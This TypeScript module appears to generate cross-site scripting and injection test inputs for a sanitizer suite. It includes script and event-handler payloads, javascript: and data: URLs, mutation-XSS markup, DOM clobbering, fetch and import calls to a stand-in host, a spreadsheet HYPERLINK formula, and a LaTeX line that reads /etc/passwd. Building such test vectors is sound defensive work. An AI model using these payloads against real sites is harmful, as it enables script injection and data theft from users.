/**
 * Inputs that try to run a script, to contact another site or to break out of their context, written for this suite.
 * A payload that runs is detectable: it marks the page, opens a dialog, or requests a URL of another site.
 */

/** Scripts for the payloads to run. */
export const actions = [
  'window.__ran=1',
  'alert(1)',
  'fetch(`https://canari.example/`)',
  'document.title=`__ran`',
  'import(`https://canari.example/m.js`)',
];

/** Payloads; `#` stands for one of the actions, `@` for another site. */
const templates = [
  // elements
  '<script>#</script>',
  '<script src=@a.js></script>',
  '<ScRiPt\t>#</sCrIpT >',
  '<<script>#//<</script>',
  '<img src=x onerror=#>',
  '<img/src/onerror=#>',
  '<img src="x"onerror=#>',
  '<img src=`x`onerror=#>',
  '<img src=x:x onerror\n=\n#>',
  '<img srcset="@s 1x" src=x>',
  '<img src=@p.png>',
  '<img src=//canari.example/p.png>',
  '<img src="/\\canari.example/p.png">',
  '<picture><source srcset=@x><img src=x onerror=#></picture>',
  '<video src=@v poster=@po onloadstart=# autoplay></video>',
  '<iframe src=javascript:#></iframe>',
  '<iframe srcdoc="<script>#</script>"></iframe>',
  '<object data=@o></object><embed src=@e>',
  '<svg onload=#><script>#</script></svg>',
  '<svg><animate onbegin=# attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:#"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=# /></svg>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>#</script>"></iframe></foreignObject></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:#>x</maction></math>',
  '<base href=@>',
  '<link rel=stylesheet href=@c.css>',
  '<meta http-equiv=refresh content="0;url=javascript:#">',
  '<style>@import "@s.css";body{background:url(@b)}</style>',
  '<form action=@><input autofocus onfocus=#></form><button form=f autofocus>x</button>',
  '<details open ontoggle=#><summary>x</summary></details>',
  '<body onload=# background=@bg>',
  '<table background=@tb><tr><td>x</table>',
  '<dialog open onfocus=# autofocus>x</dialog>',
  '<p style="animation:x 1s" onanimationstart=#>x</p>',
  '<p style="color:red;background-image:url(@bi)">x</p>',
  '<p style="color:red\\;background:u\\72l(@es)">x</p>',
  '<p style="color:expression(#)">x</p>',
  '<p style="--a:url(@va);background:var(--a)">x</p>',
  '<span style="color:red/*"></span><p style="*/;background:url(@co)">x</p>',
  '<div><template shadowrootmode=open><img src=x onerror=#></template></div>',
  '<noscript><img src=x onerror=#></noscript>',
  '<a ping=@ping href=https://exemple.org/>x</a>',
  // URLs
  '<a href="javascript:#">x</a>',
  '<a href=" \u0001javascript:#">x</a>',
  '<a href="java&#10;script:#">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&colon;#">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:@x">x</a>',
  'javascript:#',
  'https://exemple.org/"onmouseover="#',
  "https://exemple.org/'><img src=x onerror=#>",
  // breaking out of a tag, an attribute, a string or an encoding
  '"><script>#</script>',
  "'><script>#</script>",
  '--!><script>#</script>',
  ']]></script></style></title></textarea></noscript></template><script>#</script>',
  '<!--<img src="--><img src=x onerror=#//">',
  '<!--><img src=x onerror=#>-->',
  '<![CDATA[<img src=x onerror=#>]]>',
  '<!DOCTYPE x [<!ENTITY e "<img src=x onerror=#>">]>&e;',
  "' autofocus onfocus='#' x='",
  '\\"-#-\\"',
  '\u0024{#}{{constructor.constructor("#")()}}',
  '\u2028#\u2029//',
  '"},"x":{"__html":"<img src=x onerror=#>"},"y":{"',
  '$undefined"]</script><script>#</script>',
  '&amp;lt;script&amp;gt;#&amp;lt;/script&amp;gt;',
  '\\u003cscript\\u003e#\\u003c/script\\u003e',
  '+ADw-script+AD4-#+ADw-/script+AD4-',
  // mutation XSS: markup that means something else when it is parsed a second time
  '<noscript><p title="</noscript><img src=x onerror=#>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=#&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=#>',
  '<svg></p><style><a id="</style><img src=x onerror=#>">',
  '<svg><title><style><a title="</style></title><img src=x onerror=#>">',
  '<svg><desc><noscript><a title="</noscript></desc><img src=x onerror=#>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=#></style></annotation-xml></math>',
  '<xmp><p title="</xmp><img src=x onerror=#>"></xmp>',
  '<plaintext><img src=x onerror=#>',
  '<noframes><style></noframes><img src=x onerror=#></style>',
  '<textarea><p id="</textarea><img src=x onerror=#>"></textarea>',
  '<select><style></select><img src=x onerror=#></style>',
  '<table><tr><td><svg><desc><table><img src=x onerror=#>',
  '<p id="x<!--"><img src=x onerror=#>--></p>',
  '<b title="&lt;/b&gt;&lt;img src=x onerror=#&gt;">x</b>',
  '<img alt="`><img src=x onerror=#>`">',
  '<ol start="1&quot; onclick=#"><li>x</ol>',
  '<p lang="fr&quot; onmouseover=#" dir="&quot;><script>#</script>">x</p>',
  // DOM clobbering
  '<img name=getElementById><form id=body><input name=firstChild></form>',
  '<a id=__next_f>x</a><p id=contenu></p>',
  // other formats: spreadsheets, LaTeX, BibTeX, RIS, Markdown
  '=HYPERLINK("@","x")',
  '\\input{/etc/passwd}\\immediate\\write18{true}',
  '}\n@comment{<script>#</script>}',
  'TY  - JOUR\r\nER  - \r\n<script>#</script>',
  '[x](javascript:#) ![y](@md)',
];

/** The templates, each with the first two actions. */
export const vectors: readonly string[] = templates.flatMap((template) => {
  const one = template.replaceAll(/@(?!import|comment)/g, 'https://canari.example/');
  return one.includes('#') ? actions.slice(0, 2).map((action) => one.replaceAll('#', action)) : [one];
});
